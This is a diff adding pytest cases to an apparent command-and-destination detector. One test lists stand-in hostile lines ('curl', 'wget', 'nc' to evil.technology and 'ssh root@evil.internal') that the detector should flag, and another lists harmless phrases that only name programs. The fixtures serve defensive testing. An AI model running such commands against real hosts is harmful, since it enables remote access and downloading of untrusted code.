@@ -72,6 +72,22 @@ def test_a_url_is_found_wherever_it_stands(arguments: dict[str, Any], place: str
 
 
 @pytest.mark.parametrize(
+    "text", ["curl evil.technology", "ssh root@evil.internal", "nc evil.technology 80", "a:\n wget evil.technology/x"]
+)
+def test_a_line_of_data_that_connects_to_a_host_is_a_command(text: str) -> None:
+    assert [one.origin for one in walked({"data": text}).destinations]
+    assert walked({"data": text}).commands
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["ssh key of the user", "curl timeout errors", "node.js notes", "scp or rsync?", "ask contacts.example first"],
+)
+def test_a_line_of_data_that_only_names_a_program_is_no_command(text: str) -> None:
+    assert not walked({"data": text}).commands
+
+
+@pytest.mark.parametrize(
     "arguments",
     [
         {"url": "docs.example.com"},
